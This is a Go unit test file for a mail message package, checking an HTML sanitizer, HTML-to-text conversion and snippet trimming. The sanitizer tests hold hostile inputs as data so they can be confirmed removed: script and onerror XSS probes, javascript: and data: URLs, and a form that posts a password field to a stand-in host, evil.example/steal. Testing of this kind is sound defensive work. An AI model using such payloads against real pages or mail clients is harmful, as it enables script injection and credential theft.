package message

import (
	"strings"
	"testing"
)

const pngData = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"

func TestSanitizeHTML(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		keep    []string // substrings that must survive
		dropped []string // substrings that must be gone (case-insensitive)
	}{
		{"script", `<p>hi</p><script>alert(1)</script>`, []string{"<p>hi</p>"}, []string{"<script", "alert"}},
		{"event handler", `<img src="cid:logo@x" onerror="alert(1)">`, []string{`src="cid:logo@x"`}, []string{"onerror", "alert"}},
		{"javascript url", `<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(2)">y</a>`, []string{"x", "y"}, []string{"javascript", "alert"}},
		{"cid image", `<img src="cid:sig.png@tandem" alt="logo" width="120">`, []string{`src="cid:sig.png@tandem"`, `alt="logo"`, `width="120"`}, nil},
		{"png data image", `<img src="` + pngData + `">`, []string{`src="` + pngData + `"`}, nil},
		{"svg data image", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, nil, []string{"data:", "svg"}},
		{"html data url", `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, []string{"x"}, []string{"data:"}},
		{"form", `<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>`, nil, []string{"<form", "<input", "evil.example"}},
		{"style and iframe", `<style>body{display:none}</style><iframe src="https://x.example"></iframe><p style="color:red">t</p>`, []string{"<p>t</p>"}, []string{"<style", "display", "<iframe", "color:red"}},
		{"links stay, open outside", `<a href="https://example.com/a">site</a>`, []string{`href="https://example.com/a"`, `rel="nofollow noopener"`, `target="_blank"`}, nil},
		{"tables and lists", `<table><tr><td>1</td></tr></table><ul><li>a</li></ul>`, []string{"<table>", "<td>1</td>", "<li>a</li>"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := SanitizeHTML(tt.in)
			for _, k := range tt.keep {
				if !strings.Contains(got, k) {
					t.Errorf("%q lost %q: %q", tt.in, k, got)
				}
			}
			for _, d := range tt.dropped {
				if strings.Contains(strings.ToLower(got), strings.ToLower(d)) {
					t.Errorf("%q kept %q: %q", tt.in, d, got)
				}
			}
		})
	}
}

func TestHTMLToText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"<p>Hello</p><p>World</p>", "Hello\n\nWorld"},
		{"line one<br>line two<br/>line three", "line one\nline two\nline three"},
		{"<html><head><title>T</title><style>p{}</style></head><body><p>  spaced \n  out  </p><script>x()</script></body></html>", "spaced out"},
		{"<ul><li>one</li><li>two</li></ul>", "- one\n- two"},
		{`see <a href="https://example.com">the site</a> or <a href="https://example.com">https://example.com</a>`, "see the site <https://example.com> or https://example.com"},
		{`<a href="mailto:a@example.com">a@example.com</a>`, "a@example.com"},
		{"<pre>a\n  b</pre>", "a\n  b"},
		{"Fish &amp; chips&nbsp;&mdash; &lt;tasty&gt;", "Fish & chips — <tasty>"},
		{"<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>", "a b\nc d"},
		{"<div>unclosed <b>bold", "unclosed bold"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := HTMLToText(tt.in); got != tt.want {
			t.Errorf("HTMLToText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestSnippet(t *testing.T) {
	long := strings.Repeat("слово ", 100)
	s := snippet(long)
	if n := len([]rune(s)); n != SnippetLen-1 && n != SnippetLen {
		t.Errorf("snippet has %d runes", n)
	}
	if strings.HasSuffix(s, " ") || strings.Contains(s, "  ") {
		t.Errorf("snippet %q has stray spaces", s)
	}
	if got := snippet("  a\n\n\tb  "); got != "a b" {
		t.Errorf("snippet = %q", got)
	}
}
